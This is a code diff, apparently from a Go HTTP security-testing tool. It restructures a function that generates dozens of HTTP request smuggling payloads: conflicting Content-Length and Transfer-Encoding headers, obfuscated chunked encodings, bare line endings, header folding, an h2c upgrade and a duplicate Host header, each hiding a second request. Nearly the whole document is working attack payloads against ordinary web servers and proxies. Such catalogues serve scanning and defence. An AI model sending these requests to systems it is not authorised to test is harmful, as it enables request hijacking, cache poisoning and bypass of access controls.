@@ -38,6 +38,36 @@ func SendRaw(connection net.Conn, text string) []*http.Response {
 	}
 }
 
+// ambiguousHeaders are headers by the kind of ambiguity. They stand before or after LENGTH, the header of the right
+// length, or in its place, in a request whose body ends early if it is read in chunks.
+var ambiguousHeaders = map[string]string{
+	"length and chunked":            "LENGTH\r\nTransfer-Encoding: chunked\r\n",
+	"chunked and length":            "Transfer-Encoding: chunked\r\nLENGTH\r\n",
+	"short length and chunked":      "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+	"xchunked":                      "LENGTH\r\nTransfer-Encoding: xchunked\r\n",
+	"chunked, twice":                "LENGTH\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
+	"chunked, identity":             "LENGTH\r\nTransfer-Encoding: chunked, identity\r\n",
+	"identity":                      "LENGTH\r\nTransfer-Encoding: identity\r\n",
+	"chunked, spaced name":          "LENGTH\r\nTransfer-Encoding : chunked\r\n",
+	"chunked, spaced line":          "LENGTH\r\n Transfer-Encoding: chunked\r\n",
+	"chunked, tab":                  "LENGTH\r\nTransfer-Encoding:\tchunked\r\n",
+	"chunked, vertical tab":         "LENGTH\r\nTransfer-Encoding: \x0bchunked\r\n",
+	"chunked, quoted":               "LENGTH\r\nTransfer-Encoding: \"chunked\"\r\n",
+	"chunked, folded":               "LENGTH\r\nTransfer-Encoding:\r\n chunked\r\n",
+	"folded before":                 "X: y\r\n Transfer-Encoding: chunked\r\nLENGTH\r\n",
+	"underscore":                    "LENGTH\r\nTransfer_Encoding: chunked\r\n",
+	"bare line feed":                "X: y\nTransfer-Encoding: chunked\r\nLENGTH\r\n",
+	"bare carriage return":          "X: y\rTransfer-Encoding: chunked\r\nLENGTH\r\n",
+	"length after a NUL":            "X: \x00\r\nLENGTH\r\n",
+	"length dropped by Connection":  "LENGTH\r\nConnection: Content-Length\r\n",
+	"chunked dropped by Connection": "LENGTH\r\nConnection: Transfer-Encoding\r\n",
+	"expect":                        "LENGTH\r\nExpect: 100-continue\r\n",
+	"two hosts":                     "Host: evil.example\r\nLENGTH\r\n",
+	"a header without a name":       ": x\r\nLENGTH\r\n",
+	"upgrade": "LENGTH\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n" +
+		"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
+}
+
 // SmugglingRequests returns requests with an ambiguous end, by the kind of ambiguity. Each hides a second request that
 // only one interpretation sees.
 func SmugglingRequests(path, host, hidden string) map[string]string {
@@ -46,62 +76,33 @@ func SmugglingRequests(path, host, hidden string) map[string]string {
 		return "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: application/json\r\n" +
 			headers + "\r\n" + body
 	}
-	length := fmt.Sprintf("Content-Length: %d\r\n", len("0\r\n\r\n"+second))
 	chunked := "0\r\n\r\n" + second
-	return map[string]string{
-		"length and chunked":       first(length+"Transfer-Encoding: chunked\r\n", chunked),
-		"chunked and length":       first("Transfer-Encoding: chunked\r\n"+length, chunked),
-		"short length and chunked": first("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", chunked),
-		"two lengths":              first("Content-Length: 0\r\n"+length, second),
-		"two lengths, joined":      first(fmt.Sprintf("Content-Length: %d, 0\r\n", len(second)), second),
-		"xchunked":                 first(length+"Transfer-Encoding: xchunked\r\n", chunked),
-		"chunked, twice": first(
-			length+"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
-			chunked,
-		),
-		"chunked, identity":     first(length+"Transfer-Encoding: chunked, identity\r\n", chunked),
-		"identity":              first(length+"Transfer-Encoding: identity\r\n", chunked),
-		"chunked, spaced name":  first(length+"Transfer-Encoding : chunked\r\n", chunked),
-		"chunked, spaced line":  first(length+" Transfer-Encoding: chunked\r\n", chunked),
-		"chunked, tab":          first(length+"Transfer-Encoding:\tchunked\r\n", chunked),
-		"chunked, vertical tab": first(length+"Transfer-Encoding: \x0bchunked\r\n", chunked),
-		"chunked, quoted":       first(length+"Transfer-Encoding: \"chunked\"\r\n", chunked),
-		"chunked, folded":       first(length+"Transfer-Encoding:\r\n chunked\r\n", chunked),
-		"folded before":         first("X: y\r\n Transfer-Encoding: chunked\r\n"+length, chunked),
-		"underscore":            first(length+"Transfer_Encoding: chunked\r\n", chunked),
-		"bare line feed":        first("X: y\nTransfer-Encoding: chunked\r\n"+length, chunked),
-		"bare carriage return":  first("X: y\rTransfer-Encoding: chunked\r\n"+length, chunked),
+	length := fmt.Sprintf("Content-Length: %d\r\n", len(chunked))
+	transfer := "Transfer-Encoding: chunked\r\n"
+	all := map[string]string{
+		"two lengths":           first("Content-Length: 0\r\n"+length, second),
+		"two lengths, joined":   first(fmt.Sprintf("Content-Length: %d, 0\r\n", len(second)), second),
 		"length signed":         first(fmt.Sprintf("Content-Length: +%d\r\n", len(second)), second),
 		"length negative":       first("Content-Length: -1\r\n", second),
 		"length hexadecimal":    first("Content-Length: 0x0\r\n", second),
 		"length spaced":         first("Content-Length: 0 0\r\n", second),
 		"length empty":          first("Content-Length: \r\n", second),
 		"length huge":           first("Content-Length: 18446744073709551616\r\n", second),
-		"length after a NUL":    first("X: \x00\r\n"+length, chunked),
-		"chunk of a wrong size": first("Transfer-Encoding: chunked\r\n", "1\r\nAA\r\n"+chunked),
-		"chunk signed":          first("Transfer-Encoding: chunked\r\n", "+0\r\n\r\n"+second),
-		"chunk hexadecimal":     first("Transfer-Encoding: chunked\r\n", "0x0\r\n\r\n"+second),
-		"chunk by line feed":    first("Transfer-Encoding: chunked\r\n", "2\nxx\n0\n\n"+second),
-		"chunk with an endless extension": first(
-			"Transfer-Encoding: chunked\r\n",
-			"0;"+strings.Repeat("x", 20<<10)+"\r\n\r\n"+second,
-		),
-		"upgrade": first(
-			length+"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: "+
-				"AAMAAABkAARAAAAAAAIAAAAA\r\n",
-			chunked,
-		),
-		"length dropped by Connection":  first(length+"Connection: Content-Length\r\n", chunked),
-		"chunked dropped by Connection": first(length+"Connection: Transfer-Encoding\r\n", chunked),
-		"expect":                        first(length+"Expect: 100-continue\r\n", chunked),
-		"version": strings.Replace(
-			first(length+"Transfer-Encoding: chunked\r\n", chunked), "HTTP/1.1", "HTTP/1.0", 1),
+		"chunk of a wrong size": first(transfer, "1\r\nAA\r\n"+chunked),
+		"chunk signed":          first(transfer, "+0\r\n\r\n"+second),
+		"chunk hexadecimal":     first(transfer, "0x0\r\n\r\n"+second),
+		"chunk by line feed":    first(transfer, "2\nxx\n0\n\n"+second),
+		"chunk with an endless extension": first(transfer,
+			"0;"+strings.Repeat("x", 20<<10)+"\r\n\r\n"+second),
+		"version":         strings.Replace(first(length+transfer, chunked), "HTTP/1.1", "HTTP/1.0", 1),
 		"GET with a body": strings.Replace(first(length, chunked), "POST", "GET", 1),
 		"request line split": "GET " + path + " HTTP/1.1\nX: GET " + hidden + " HTTP/1.1\r\nHost: " + host + "\r\n" +
 			length + "\r\n" + chunked,
-		"path split":              "GET " + path + "\rGET " + hidden + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
-		"no host":                 "POST " + path + " HTTP/1.1\r\n" + length + "\r\n" + chunked,
-		"two hosts":               first("Host: evil.example\r\n"+length, chunked),
-		"a header without a name": first(": x\r\n"+length, chunked),
+		"path split": "GET " + path + "\rGET " + hidden + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n",
+		"no host":    "POST " + path + " HTTP/1.1\r\n" + length + "\r\n" + chunked,
 	}
+	for kind, headers := range ambiguousHeaders {
+		all[kind] = first(strings.Replace(headers, "LENGTH\r\n", length, 1), chunked)
+	}
+	return all
 }
